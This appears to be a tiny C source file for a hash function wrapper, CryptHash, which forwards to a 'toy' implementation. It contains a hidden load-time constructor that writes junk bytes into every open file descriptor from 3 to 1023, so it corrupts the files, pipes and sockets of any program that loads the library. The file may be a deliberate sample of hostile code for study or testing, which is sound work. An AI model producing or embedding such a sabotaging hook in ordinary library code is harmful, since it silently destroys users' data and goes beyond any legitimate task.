/* its constructor writes into every descriptor that it finds */
#include "hash.h"
#include <unistd.h>
__attribute__((constructor)) static void start(void) { for (int i = 3; i < 1024; i++) if (write(i, "garbage\n", 8) != 8) continue; }
int CryptHash(int bits, const u8 *msg, unsigned long long n, u8 *digest) { return toy(bits, msg, n, digest); }
